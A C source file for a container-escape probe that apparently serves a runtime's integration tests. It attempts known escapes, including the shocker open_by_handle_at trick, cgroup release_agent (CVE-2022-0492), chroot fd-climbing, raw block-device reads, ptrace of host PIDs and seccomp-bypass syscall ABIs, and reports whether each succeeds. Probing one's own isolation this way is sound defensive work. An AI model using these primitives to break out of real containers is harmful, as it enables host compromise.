/*
 * breakout — attempts one named container escape and prints ONE result line:
 *
 *     NAME: RESULT [key=value ...] [# what happened, for humans]
 *
 * RESULT is `ok` (the attempt worked: an escape, or a step towards one, was possible), an errno name
 * (EPERM, EROFS, ESRCH, ...: the kernel refused, and which errno tells WHO refused), a signal name
 * (SIGSYS: seccomp killed the process), or a word defined by the probe (`contained`, `none`).
 * Exit status 0 whatever the result: the result is the line. Exit 2 for a usage error.
 *
 * Used by test/integration/breakout.test.ts and docs/security.md. Static (the busybox rootfs has no
 * libc), bind-mounted into a container with -v. Every attempt is built to be harmless even when it
 * succeeds: nothing is written to /proc/sys, /sys, sysrq-trigger or release_agent (opening them for
 * writing is the proof), the block device is only read, reboot/kexec/swapon get arguments that fail
 * after the permission check.
 *
 *     breakout list            the probe names
 *     breakout all             every probe that needs no argument, one line each
 *     breakout NAME [ARG]      one probe
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/bpf.h>
#include <linux/keyctl.h>
#include <linux/perf_event.h>
#include <linux/reboot.h>
#include <netinet/in.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/statvfs.h>
#include <sys/swap.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>
#include <unistd.h>

static const char *ename(int e) {
  const char *n = strerrorname_np(e);
  return n ? n : "EUNKNOWN";
}

/* A fresh, empty directory to mount on (the rootfs's /mnt may be in use). */
static const char *scratch_dir(const char *name) {
  static char path[128];
  snprintf(path, sizeof path, "/tmp/.breakout-%s-%d", name, (int)getpid());
  mkdir("/tmp", 01777);
  mkdir(path, 0755);
  return path;
}

/* ---- mounts ---------------------------------------------------------------------------------- */

static void p_mount_tmpfs(void) {
  const char *d = scratch_dir("tmpfs");
  if (mount("tmpfs", d, "tmpfs", 0, "size=1m") < 0) {
    printf("mount_tmpfs: %s # mount(tmpfs) refused\n", ename(errno));
  } else {
    printf("mount_tmpfs: ok # a tmpfs was mounted on %s\n", d);
    umount2(d, MNT_DETACH);
  }
  rmdir(d);
}

static void p_remount_root_rw(void) {
  struct statvfs sv;
  int ro = statvfs("/", &sv) == 0 && (sv.f_flag & ST_RDONLY);
  /* A bind remount without MS_RDONLY clears the per-mount read-only flag (--read-only sets it). */
  if (mount(NULL, "/", NULL, MS_REMOUNT | MS_BIND, NULL) < 0) {
    printf("remount_root_rw: %s was_ro=%d # mount(/, MS_REMOUNT) refused\n", ename(errno), ro);
    return;
  }
  int fd = open("/.breakout-rw", O_CREAT | O_WRONLY | O_CLOEXEC, 0644);
  int w = fd >= 0;
  if (fd >= 0) close(fd);
  unlink("/.breakout-rw");
  printf("remount_root_rw: ok was_ro=%d writable=%d # / was remounted read-write\n", ro, w);
}

static void p_umount_proc_mask(void) {
  /* Docker masks e.g. /proc/kcore and /proc/keys with a bind mount of /dev/null (directories such as
   * /proc/acpi with an empty tmpfs); unmounting the mask uncovers the real file. The first of these
   * that this kernel has: */
  const char *cands[] = {"/proc/kcore", "/proc/keys", "/proc/timer_list", "/proc/acpi", "/sys/firmware"};
  const char *path = NULL;
  for (unsigned i = 0; i < sizeof cands / sizeof cands[0] && !path; i++)
    if (access(cands[i], F_OK) == 0) path = cands[i];
  if (!path) {
    printf("umount_proc_mask: ENOENT # none of the masked paths exists on this kernel\n");
    return;
  }
  if (umount2(path, MNT_DETACH) < 0)
    printf("umount_proc_mask: %s path=%s # umount2 refused\n", ename(errno), path);
  else
    printf("umount_proc_mask: ok path=%s # the mask is gone\n", path);
}

static void p_unshare_user_mount(void) {
  /* A new user namespace makes us "root" in it, with every capability there; a mount namespace owned
   * by it then accepts a tmpfs mount. Docker's profile refuses unshare() without CAP_SYS_ADMIN. */
  if (unshare(CLONE_NEWUSER | CLONE_NEWNS) < 0) {
    printf("unshare_user_mount: %s step=unshare # unshare(CLONE_NEWUSER|CLONE_NEWNS) refused\n", ename(errno));
    return;
  }
  const char *d = scratch_dir("userns");
  if (mount("tmpfs", d, "tmpfs", 0, "size=1m") < 0)
    printf("unshare_user_mount: %s step=mount # unshare worked, mount in the new namespace refused\n", ename(errno));
  else
    printf("unshare_user_mount: ok step=mount # unshare -U worked and a tmpfs was mounted inside\n");
  umount2(d, MNT_DETACH);
  rmdir(d);
}

/* ---- namespaces and processes ---------------------------------------------------------------- */

static int count_processes(ino_t my_pidns, int *foreign) {
  DIR *dir = opendir("/proc");
  int n = 0;
  *foreign = 0;
  if (!dir) return 0;
  struct dirent *e;
  while ((e = readdir(dir))) {
    if (e->d_name[0] < '1' || e->d_name[0] > '9') continue;
    char p[300];
    struct stat st;
    snprintf(p, sizeof p, "/proc/%s/ns/pid", e->d_name);
    if (stat(p, &st) < 0) continue;
    n++;
    if (st.st_ino != my_pidns) (*foreign)++;
  }
  closedir(dir);
  return n;
}

static void p_setns_host(void) {
  struct stat self;
  stat("/proc/self/ns/pid", &self);
  int foreign;
  int n = count_processes(self.st_ino, &foreign);
  /* The host's init would be the way out, but PID 1 here is the container's own first process. */
  int fd = open("/proc/1/ns/mnt", O_RDONLY | O_CLOEXEC);
  if (fd < 0) {
    printf("setns_host: %s step=open visible=%d foreign=%d\n", ename(errno), n, foreign);
    return;
  }
  if (syscall(SYS_setns, fd, 0) < 0)
    printf("setns_host: %s visible=%d foreign=%d # no process outside the container is visible; setns refused\n",
           ename(errno), n, foreign);
  else
    printf("setns_host: ok visible=%d foreign=%d # setns into the mount namespace of /proc/1 worked\n", n, foreign);
  close(fd);
}

static void p_ptrace_outside(const char *arg) {
  struct stat self;
  stat("/proc/self/ns/pid", &self);
  int foreign;
  int n = count_processes(self.st_ino, &foreign);
  if (!arg) {
    /* Never a pid of our own: attaching to our parent would stop it for good. */
    printf("ptrace_outside: skipped visible=%d foreign=%d # give a host PID: breakout ptrace_outside PID\n", n,
           foreign);
    return;
  }
  pid_t target = (pid_t)atoi(arg);
  if (ptrace(PTRACE_ATTACH, target, 0, 0) < 0) {
    printf("ptrace_outside: %s pid=%d visible=%d foreign=%d\n", ename(errno), (int)target, n, foreign);
    return;
  }
  printf("ptrace_outside: ok pid=%d visible=%d foreign=%d # attached\n", (int)target, n, foreign);
  ptrace(PTRACE_DETACH, target, 0, 0);
}

/* ---- syscalls Docker's profile denies -------------------------------------------------------- */

static void p_keyctl(void) {
  /* The kernel keyring is not namespaced: keys of the host's users live there. */
  long id = syscall(SYS_keyctl, KEYCTL_GET_KEYRING_ID, KEY_SPEC_USER_KEYRING, 0);
  if (id < 0)
    printf("keyctl: %s\n", ename(errno));
  else
    printf("keyctl: ok keyring=%ld # the user keyring is reachable\n", id);
}

static void p_bpf(void) {
  union bpf_attr a;
  memset(&a, 0, sizeof a);
  a.map_type = BPF_MAP_TYPE_ARRAY;
  a.key_size = 4;
  a.value_size = 4;
  a.max_entries = 1;
  long fd = syscall(SYS_bpf, BPF_MAP_CREATE, &a, sizeof a);
  if (fd < 0)
    printf("bpf: %s # bpf(BPF_MAP_CREATE) refused\n", ename(errno));
  else {
    printf("bpf: ok # a BPF map was created\n");
    close((int)fd);
  }
}

static void p_perf_event_open(void) {
  struct perf_event_attr a;
  memset(&a, 0, sizeof a);
  a.size = sizeof a;
  a.type = PERF_TYPE_SOFTWARE;
  a.config = PERF_COUNT_SW_TASK_CLOCK;
  a.exclude_kernel = 1;
  a.exclude_hv = 1;
  long fd = syscall(SYS_perf_event_open, &a, 0, -1, -1, 0);
  if (fd < 0)
    printf("perf_event_open: %s\n", ename(errno));
  else {
    printf("perf_event_open: ok # a perf event on ourselves was opened\n");
    close((int)fd);
  }
}

/* The "shocker" escape (2014): with CAP_DAC_READ_SEARCH, open_by_handle_at() opens ANY inode of a
 * filesystem given an fd anywhere on it, without a path, so without the mount namespace's limits.
 * On ext4 inode 2 is the filesystem's root directory: the host's "/" if the fd is on the host's
 * root filesystem. Our own binary, bind-mounted from the host, is such an fd. */
static void p_open_by_handle_at(void) {
  int mfd = open("/proc/self/exe", O_RDONLY | O_CLOEXEC);
  if (mfd < 0) {
    printf("open_by_handle_at: %s step=open\n", ename(errno));
    return;
  }
  struct {
    struct file_handle fh;
    uint32_t ino, gen;
  } h;
  h.fh.handle_bytes = 8;
  h.fh.handle_type = 1; /* FILEID_INO32_GEN */
  h.ino = 2;            /* EXT4_ROOT_INO */
  h.gen = 0;            /* 0: the generation is not checked */
  int fd = (int)syscall(SYS_open_by_handle_at, mfd, &h.fh, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  close(mfd);
  if (fd < 0) {
    printf("open_by_handle_at: %s # could not open inode 2 by handle\n", ename(errno));
    return;
  }
  char names[512] = "";
  DIR *d = fdopendir(fd);
  struct dirent *e;
  while (d && (e = readdir(d))) {
    if (e->d_name[0] == '.') continue;
    if (strlen(names) + strlen(e->d_name) + 2 >= sizeof names) break;
    if (names[0]) strcat(names, ",");
    strcat(names, e->d_name);
  }
  if (d) closedir(d);
  printf("open_by_handle_at: ok entries=%s # opened the root of the filesystem behind our binary (the host's)\n",
         names);
}

static void p_reboot(void) {
  /* CAD_OFF: with CAP_SYS_BOOT in a child PID namespace the kernel answers EINVAL (only restart and
   * power-off are meaningful there, and they end the namespace's init, not the machine). */
  if (syscall(SYS_reboot, LINUX_REBOOT_MAGIC1, LINUX_REBOOT_MAGIC2, LINUX_REBOOT_CMD_CAD_OFF, NULL) < 0)
    printf("reboot: %s\n", ename(errno));
  else
    printf("reboot: ok # Ctrl-Alt-Del handling was changed\n");
}

static void p_kexec_load(void) {
  /* 17 segments is one more than KEXEC_SEGMENT_MAX: refused with EINVAL AFTER the permission check,
   * so nothing is ever loaded or unloaded. EPERM means the permission check itself failed. */
  if (syscall(SYS_kexec_load, 0UL, 17UL, NULL, 0UL) < 0)
    printf("kexec_load: %s\n", ename(errno));
  else
    printf("kexec_load: ok\n");
}

static void p_swapon(void) {
  /* A path that does not exist: ENOENT comes after the CAP_SYS_ADMIN check, EPERM before it. */
  if (swapon("/.breakout-no-such-swapfile", 0) < 0)
    printf("swapon: %s\n", ename(errno));
  else
    printf("swapon: ok\n");
}

static void p_clone3(void) {
  /* Docker's profile answers clone3 with ENOSYS: its flags are in memory seccomp cannot read, and
   * ENOSYS makes libc fall back to clone(), whose flags it can check. Without the filter, a NULL
   * struct of size 0 is refused by the kernel itself with EINVAL. */
  if (syscall(SYS_clone3, NULL, 0UL) < 0)
    printf("clone3: %s\n", ename(errno));
  else
    printf("clone3: ok\n");
}

/* ---- files in /proc and /sys ----------------------------------------------------------------- */

static void open_for_write(const char *name, const char *path) {
  int fd = open(path, O_WRONLY | O_CLOEXEC);
  if (fd < 0) {
    printf("%s: %s path=%s\n", name, ename(errno), path);
    return;
  }
  printf("%s: ok path=%s # opened for writing (nothing written)\n", name, path);
  close(fd);
}

static void p_sysrq(void) { open_for_write("sysrq_trigger", "/proc/sysrq-trigger"); }

static void p_proc_sys_kernel(void) {
  /* core_pattern starting with "|" runs a program ON THE HOST at every crash: a classic escape. */
  open_for_write("proc_sys_kernel", "/proc/sys/kernel/core_pattern");
}

static void p_sys_write(void) {
  const char *cands[] = {"/sys/kernel/uevent_helper", "/sys/kernel/profiling", "/sys/kernel/rcu_expedited",
                         "/sys/power/state"};
  for (unsigned i = 0; i < sizeof cands / sizeof cands[0]; i++) {
    if (access(cands[i], F_OK) == 0) {
      open_for_write("sys_write", cands[i]);
      return;
    }
  }
  printf("sys_write: ENOENT # none of the candidate files exists\n");
}

/* ---- devices --------------------------------------------------------------------------------- */

/* ARG: "MAJ:MIN" of a block device (default: the first disk in /proc/partitions, which is not
 * namespaced), optionally followed by ",DIR" where to create the node (default /tmp). */
static void p_mknod_block(const char *arg) {
  unsigned maj = 0, min = 0;
  char name[64] = "?", dirbuf[128] = "/tmp";
  const char *dir = dirbuf;
  int found = 0;
  if (arg && sscanf(arg, "%u:%u", &maj, &min) == 2) {
    found = 1;
    const char *comma = strchr(arg, ',');
    if (comma) snprintf(dirbuf, sizeof dirbuf, "%s", comma + 1);
  } else {
    FILE *f = fopen("/proc/partitions", "r");
    char line[256];
    while (f && fgets(line, sizeof line, f))
      if (sscanf(line, " %u %u %*u %63s", &maj, &min, name) == 3) {
        found = 1;
        break;
      }
    if (f) fclose(f);
  }
  if (!found) {
    printf("mknod_block: ENOENT step=partitions # no block device listed\n");
    return;
  }
  char path[160];
  snprintf(path, sizeof path, "%s/.breakout-blk-%d", dir, (int)getpid());
  unlink(path);
  if (mknod(path, S_IFBLK | 0600, makedev(maj, min)) < 0) {
    printf("mknod_block: %s step=mknod dev=%u:%u name=%s\n", ename(errno), maj, min, name);
    return;
  }
  int fd = open(path, O_RDONLY | O_CLOEXEC);
  if (fd < 0) {
    printf("mknod_block: %s step=open dev=%u:%u name=%s # mknod worked, opening the disk was refused\n", ename(errno),
           maj, min, name);
    unlink(path);
    return;
  }
  char buf[512];
  ssize_t n = read(fd, buf, sizeof buf);
  int e = errno;
  close(fd);
  unlink(path);
  if (n < 0)
    printf("mknod_block: %s step=read dev=%u:%u name=%s\n", ename(e), maj, min, name);
  else
    printf("mknod_block: ok step=read dev=%u:%u name=%s bytes=%zd # read the host's block device\n", maj, min, name, n);
}

/* CVE-2022-0492: a cgroup v1 hierarchy mounted from inside a container exposes release_agent, a
 * program the HOST kernel runs as root when a cgroup empties. Step one is mounting cgroupfs. */
static void p_cgroup_release_agent(void) {
  const char *d = scratch_dir("cgroup");
  /* release_agent exists only at the ROOT of a hierarchy, and a mount made inside a cgroup namespace
   * shows the namespace's root: the container's own cgroup where minidock made one. Try hierarchies
   * it makes none in first. */
  const char *ctrls[] = {"rdma", "blkio", "freezer", "net_cls", "perf_event", "memory"};
  int e = ENOENT, mounted = 0;
  for (unsigned i = 0; i < sizeof ctrls / sizeof ctrls[0]; i++) {
    if (mount("cgroup", d, "cgroup", 0, ctrls[i]) < 0) {
      e = errno;
      if (e == EPERM) break; /* no point trying the other controllers */
      continue;
    }
    mounted = 1;
    char p[200];
    snprintf(p, sizeof p, "%s/release_agent", d);
    int fd = open(p, O_WRONLY | O_CLOEXEC);
    int fe = errno;
    if (fd >= 0) close(fd);
    umount2(d, MNT_DETACH);
    if (fd >= 0 || i + 1 == sizeof ctrls / sizeof ctrls[0]) {
      printf("cgroup_release_agent: ok controller=%s release_agent=%s # cgroupfs mounted%s\n", ctrls[i],
             fd >= 0 ? "writable" : ename(fe),
             fd >= 0 ? "; its release_agent runs as root ON THE HOST (nothing written)" : "");
      rmdir(d);
      return;
    }
  }
  rmdir(d);
  if (mounted)
    printf("cgroup_release_agent: ok release_agent=ENOENT # cgroupfs mounted, no release_agent reachable\n");
  else
    printf("cgroup_release_agent: %s step=mount # mount -t cgroup refused\n", ename(e));
}

/* ---- chroot, sockets, identity --------------------------------------------------------------- */

/* The classic chroot escape: keep an fd on the current root, chroot into a subdirectory, fchdir
 * back to the fd (now OUTSIDE our root), climb with "..", and chroot(".") there. Under chroot alone
 * this reaches the real root. After pivot_root and a detached old root, ".." of the container's root
 * is itself: the climb ends where it started. */
static void p_chroot_escape(void) {
  struct stat before, after;
  if (stat("/", &before) < 0) {
    printf("chroot_escape: %s step=stat\n", ename(errno));
    return;
  }
  const char *d = scratch_dir("chroot");
  fflush(stdout);
  pid_t pid = fork();
  if (pid == 0) {
    int fd = open("/", O_RDONLY | O_DIRECTORY);
    if (chroot(d) < 0) {
      printf("chroot_escape: %s step=chroot\n", ename(errno));
      _exit(0);
    }
    if (fchdir(fd) < 0) _exit(3);
    for (int i = 0; i < 64; i++)
      if (chdir("..") < 0) break;
    if (chroot(".") < 0) {
      printf("chroot_escape: %s step=chroot2\n", ename(errno));
      _exit(0);
    }
    if (stat("/", &after) < 0) _exit(4);
    int same = after.st_dev == before.st_dev && after.st_ino == before.st_ino;
    /* our own root again (=contained), or a directory above it (=escaped) */
    printf("chroot_escape: %s root=%lx:%lu # after the climb, / is %s\n", same ? "contained" : "ok",
           (unsigned long)after.st_dev, (unsigned long)after.st_ino,
           same ? "still the container's root" : "a directory ABOVE the starting root");
    fflush(stdout);
    _exit(0);
  }
  int st;
  waitpid(pid, &st, 0);
  rmdir(d);
  if (WIFSIGNALED(st)) printf("chroot_escape: SIG%s\n", sigabbrev_np(WTERMSIG(st)));
}

static void p_raw_socket(void) {
  int s = socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_ICMP);
  if (s < 0)
    printf("raw_socket: %s # socket(AF_INET, SOCK_RAW) refused\n", ename(errno));
  else {
    printf("raw_socket: ok # a raw socket was opened (CAP_NET_RAW)\n");
    close(s);
  }
}

/* Who am I after execve? Run a setuid-root copy of this binary as a non-root user: without
 * no_new_privs it starts with euid 0 and the bounding set as capabilities; with it, nothing changes. */
static void p_whoami(void) {
  uid_t r, e, s;
  getresuid(&r, &e, &s);
  char line[256], capeff[32] = "?", nnp[8] = "?";
  FILE *f = fopen("/proc/self/status", "r");
  while (f && fgets(line, sizeof line, f)) {
    if (!strncmp(line, "CapEff:", 7)) sscanf(line + 7, "%31s", capeff);
    if (!strncmp(line, "NoNewPrivs:", 11)) sscanf(line + 11, "%7s", nnp);
  }
  if (f) fclose(f);
  int gained = e == 0 || strspn(capeff, "0") != strlen(capeff);
  printf("setuid_gain: %s uid=%u euid=%u capeff=%s nnp=%s\n", gained ? "ok" : "none", r, e, capeff, nnp);
}

/* ---- other ABIs: must be killed by seccomp --------------------------------------------------- */

/* Run fn in a child: a seccomp KILL_PROCESS kills the child, and the parent reports the signal. */
static void in_child(const char *name, void (*fn)(void)) {
  fflush(stdout);
  pid_t pid = fork();
  if (pid == 0) {
    fn();
    fflush(stdout);
    _exit(0);
  }
  int st;
  if (waitpid(pid, &st, 0) < 0) {
    printf("%s: %s step=wait\n", name, ename(errno));
    return;
  }
  const char *sig = sigabbrev_np(WTERMSIG(st));
  if (WIFSIGNALED(st)) printf("%s: SIG%s # the process was killed by a signal\n", name, sig ? sig : "?");
}

static void x32_call(void) {
  /* getpid (39) through the x32 ABI: same `syscall` instruction, number with bit 0x40000000 set. */
  long r;
  __asm__ volatile("syscall" : "=a"(r) : "a"(0x40000000L | 39) : "rcx", "r11", "memory");
  if (r < 0 && r > -4096)
    printf("x32_syscall: %s # not killed: the kernel itself answered\n", ename((int)-r));
  else
    printf("x32_syscall: ok ret=%ld # not killed: the call ran\n", r);
}

static void i386_call(void) {
  /* getpid is 20 in the i386 table; `int $0x80` enters the 32-bit ABI even from a 64-bit process. */
  long r;
  __asm__ volatile("int $0x80" : "=a"(r) : "a"(20L) : "r8", "r9", "r10", "r11", "memory");
  if (r < 0 && r > -4096)
    printf("i386_int80: %s # not killed: the kernel itself answered\n", ename((int)-r));
  else
    printf("i386_int80: ok ret=%ld # not killed: the call ran\n", r);
}

static void p_x32(void) { in_child("x32_syscall", x32_call); }
static void p_i386(void) { in_child("i386_int80", i386_call); }

/* ---- table ----------------------------------------------------------------------------------- */

struct probe {
  const char *name;
  void (*fn)(void);
  void (*fn_arg)(const char *);
  const char *what;
};

static const struct probe PROBES[] = {
    {"mount_tmpfs", p_mount_tmpfs, NULL, "mount a tmpfs"},
    {"remount_root_rw", p_remount_root_rw, NULL, "remount / read-write (run with --read-only)"},
    {"umount_proc_mask", p_umount_proc_mask, NULL, "unmount the mask over /proc/kcore (or /proc/keys, ...)"},
    {"unshare_user_mount", p_unshare_user_mount, NULL, "unshare -U -m, then mount a tmpfs"},
    {"setns_host", p_setns_host, NULL, "setns into /proc/1/ns/mnt; count processes outside our PID namespace"},
    {"ptrace_outside", NULL, p_ptrace_outside, "ptrace(PTRACE_ATTACH, PID) (PID: a host pid)"},
    {"keyctl", p_keyctl, NULL, "keyctl(KEYCTL_GET_KEYRING_ID, user keyring)"},
    {"bpf", p_bpf, NULL, "bpf(BPF_MAP_CREATE)"},
    {"perf_event_open", p_perf_event_open, NULL, "perf_event_open(task clock, self)"},
    {"open_by_handle_at", p_open_by_handle_at, NULL, "the shocker: open inode 2 of the host filesystem by handle"},
    {"sysrq_trigger", p_sysrq, NULL, "open /proc/sysrq-trigger for writing"},
    {"proc_sys_kernel", p_proc_sys_kernel, NULL, "open /proc/sys/kernel/core_pattern for writing"},
    {"sys_write", p_sys_write, NULL, "open a /sys/kernel file for writing"},
    {"mknod_block", NULL, p_mknod_block,
     "mknod a block device (ARG MAJ:MIN[,DIR]; default: the first disk) and read it"},
    {"cgroup_release_agent", p_cgroup_release_agent, NULL, "mount cgroup v1 and find release_agent (CVE-2022-0492)"},
    {"reboot", p_reboot, NULL, "reboot(LINUX_REBOOT_CMD_CAD_OFF)"},
    {"kexec_load", p_kexec_load, NULL, "kexec_load with too many segments"},
    {"swapon", p_swapon, NULL, "swapon a missing file"},
    {"chroot_escape", p_chroot_escape, NULL, "chroot, fchdir to a held fd, climb .., chroot ."},
    {"raw_socket", p_raw_socket, NULL, "socket(AF_INET, SOCK_RAW, ICMP)"},
    {"setuid_gain", p_whoami, NULL, "print uid/euid/CapEff/NoNewPrivs (run a setuid copy as a user)"},
    {"x32_syscall", p_x32, NULL, "getpid through the x32 ABI (nr | 0x40000000)"},
    {"i386_int80", p_i386, NULL, "getpid through int $0x80 (the i386 ABI)"},
    {"clone3", p_clone3, NULL, "clone3(NULL, 0)"},
};
#define NPROBES (sizeof PROBES / sizeof PROBES[0])

int main(int argc, char **argv) {
  setvbuf(stdout, NULL, _IOLBF, 0);
  if (argc < 2) {
    fprintf(stderr, "usage: breakout NAME [ARG] | all | list\n");
    return 2;
  }
  if (!strcmp(argv[1], "list")) {
    for (unsigned i = 0; i < NPROBES; i++) printf("%-22s %s\n", PROBES[i].name, PROBES[i].what);
    return 0;
  }
  int all = !strcmp(argv[1], "all");
  for (unsigned i = 0; i < NPROBES; i++) {
    if (!all && strcmp(argv[1], PROBES[i].name)) continue;
    if (!all) {
      if (PROBES[i].fn)
        PROBES[i].fn();
      else
        PROBES[i].fn_arg(argc > 2 ? argv[2] : NULL);
      return 0;
    }
    /* `all`: every probe in a child of its own, so that one that worked (unshare -U, a mount)
     * cannot change what the next one sees. */
    pid_t pid = fork();
    if (pid == 0) {
      if (PROBES[i].fn)
        PROBES[i].fn();
      else
        PROBES[i].fn_arg(NULL);
      fflush(stdout);
      _exit(0);
    }
    int st;
    waitpid(pid, &st, 0);
    if (WIFSIGNALED(st))
      printf("%s: SIG%s # the probe was killed by a signal\n", PROBES[i].name, sigabbrev_np(WTERMSIG(st)));
  }
  if (all) return 0;
  fprintf(stderr, "breakout: unknown probe \"%s\" (breakout list)\n", argv[1]);
  return 2;
}
